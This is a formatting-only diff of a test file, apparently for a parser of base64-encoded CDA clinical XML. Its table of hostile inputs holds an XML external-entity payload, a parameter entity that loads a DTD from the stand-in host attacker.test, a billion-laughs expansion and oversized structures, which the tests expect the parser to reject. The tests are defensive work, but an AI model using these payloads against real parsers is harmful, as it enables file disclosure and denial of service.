@@ -59,12 +59,20 @@ test('the header is told in words', () => {
   })
 })
 
-const long = cda({ body: `<nonXMLBody><text mediaType="application/pdf" representation="B64">${'QUJD\n'.repeat(60_000)}</text></nonXMLBody>` })
+const long = cda({
+  body: `<nonXMLBody><text mediaType="application/pdf" representation="B64">${'QUJD\n'.repeat(60_000)}</text></nonXMLBody>`,
+})
 
 describe('it makes no difference', () => {
   const whole = readAll(inBase64(cda()))
   test.each([
-    ['with a prefix for the namespace', cda().replace('xmlns=', 'xmlns:c=').replace(/<(\/?)(?=[A-Za-z])/g, '<$1c:').replaceAll('</c:c:', '</c:')],
+    [
+      'with a prefix for the namespace',
+      cda()
+        .replace('xmlns=', 'xmlns:c=')
+        .replace(/<(\/?)(?=[A-Za-z])/g, '<$1c:')
+        .replaceAll('</c:c:', '</c:'),
+    ],
     ['with a byte order mark', `\ufeff${cda()}`],
     ['without a declaration', cda({ head: '' })],
   ])('%s', (_name, xml) => {
@@ -73,7 +81,10 @@ describe('it makes no difference', () => {
 
   test('in ISO-8859-15', () => {
     const named = (head: string) => cda({ head, patient: '<name><family>ŒUVRÉ € (FICTIF)</family></name>' })
-    const bytes = Buffer.from(named(LATIN9).replaceAll('Œ', '\xbc').replaceAll('€', '\xa4').replaceAll('’', "'"), 'latin1')
+    const bytes = Buffer.from(
+      named(LATIN9).replaceAll('Œ', '\xbc').replaceAll('€', '\xa4').replaceAll('’', "'"),
+      'latin1',
+    )
     const { fault, header } = readAll(bytes.toString('base64'))
     expect(fault).toBeNull()
     expect(header.patients[0]?.families).toEqual([{ qualifier: '', name: 'ŒUVRÉ € (FICTIF)' }])
@@ -100,21 +111,48 @@ const inside = (xml: string): string => cda({ body: `<structuredBody>${xml}</str
 describe('what is hostile or broken', () => {
   test.each<[name: string, base64: string | Buffer, fault: string]>([
     ['an entity that reads a file', inBase64(XXE + cda({ head: '' })), 'doctype'],
-    ['a parameter entity from elsewhere', inBase64(`<!DOCTYPE a [<!ENTITY % x SYSTEM "http://attacker.test/x.dtd"> %x;]>${cda({ head: '' })}`), 'doctype'],
+    [
+      'a parameter entity from elsewhere',
+      inBase64(`<!DOCTYPE a [<!ENTITY % x SYSTEM "http://attacker.test/x.dtd"> %x;]>${cda({ head: '' })}`),
+      'doctype',
+    ],
     ['a billion laughs', inBase64(LAUGHS + cda({ head: '' })), 'doctype'],
     ['a document type that never ends', inBase64(`<!DOCTYPE a [${' '.repeat(200_000)}`), 'doctype'],
     ['elements without end inside each other', inBase64(inside('<a>'.repeat(300_000))), 'limits'],
     ['an attribute of a megabyte', inBase64(inside(`<a b="${'x'.repeat(1_000_000)}"/>`)), 'limits'],
-    ['a thousand attributes', inBase64(inside(`<a ${Array.from({ length: 1_000 }, (_, i) => `b${i}=""`).join(' ')}/>`)), 'limits'],
+    [
+      'a thousand attributes',
+      inBase64(inside(`<a ${Array.from({ length: 1_000 }, (_, i) => `b${i}=""`).join(' ')}/>`)),
+      'limits',
+    ],
     ['a name of a megabyte', inBase64(inside(`<${'a'.repeat(1_000_000)}/>`)), 'limits'],
-    ['declarations of namespaces at every depth', inBase64(inside(Array.from({ length: 250 }, (_, i) => `<a ${Array.from({ length: 20 }, (_, j) => `xmlns:p${i}x${j}="u"`).join(' ')}>`).join(''))), 'limits'],
+    [
+      'declarations of namespaces at every depth',
+      inBase64(
+        inside(
+          Array.from(
+            { length: 250 },
+            (_, i) => `<a ${Array.from({ length: 20 }, (_, j) => `xmlns:p${i}x${j}="u"`).join(' ')}>`,
+          ).join(''),
+        ),
+      ),
+      'limits',
+    ],
     ['an entity that nobody declared', inBase64(inside('&eacute;')), 'syntax'],
     ['the end cut off', inBase64(cda().slice(0, -30)), 'syntax'],
     ['something behind the end', inBase64(`${cda()}<a/>`), 'syntax'],
     ['another root', inBase64('<html><body/></html>'), 'root'],
     ['a ClinicalDocument of another namespace', inBase64('<ClinicalDocument/>'), 'root'],
-    ['bytes that are no UTF-8', Buffer.from(cda().replace('Résultat', 'R\xe9sultat'), 'latin1').toString('base64'), 'encoding'],
-    ['UTF-8 cut off at the end', Buffer.concat([Buffer.from(cda()), Buffer.from([0xc3])]).toString('base64'), 'encoding'],
+    [
+      'bytes that are no UTF-8',
+      Buffer.from(cda().replace('Résultat', 'R\xe9sultat'), 'latin1').toString('base64'),
+      'encoding',
+    ],
+    [
+      'UTF-8 cut off at the end',
+      Buffer.concat([Buffer.from(cda()), Buffer.from([0xc3])]).toString('base64'),
+      'encoding',
+    ],
     ['an encoding that is not read', inBase64(cda({ head: '<?xml version="1.0" encoding="UTF-7"?>' })), 'encoding'],
     ['UTF-16', Buffer.from(`\ufeff${cda()}`, 'utf16le').toString('base64'), 'encoding'],
     ['a mark of UTF-8 that the declaration denies', inBase64(`\ufeff${cda({ head: LATIN9 })}`), 'encoding'],
@@ -127,7 +165,9 @@ describe('what is hostile or broken', () => {
 
   test('lists and texts are cut, however long', () => {
     const ids = Array.from({ length: 500 }, (_, i) => `<id root="1.2.${i}" extension="x"/>`).join('')
-    const { fault, header } = readAll(inBase64(cda({ ids, patient: `<name><family>${'A'.repeat(20_000)}</family></name>` })))
+    const { fault, header } = readAll(
+      inBase64(cda({ ids, patient: `<name><family>${'A'.repeat(20_000)}</family></name>` })),
+    )
     expect(fault).toBeNull()
     expect(header.patients[0]?.ids).toHaveLength(32)
     expect(header.patients[0]?.families[0]?.name).toHaveLength(512)
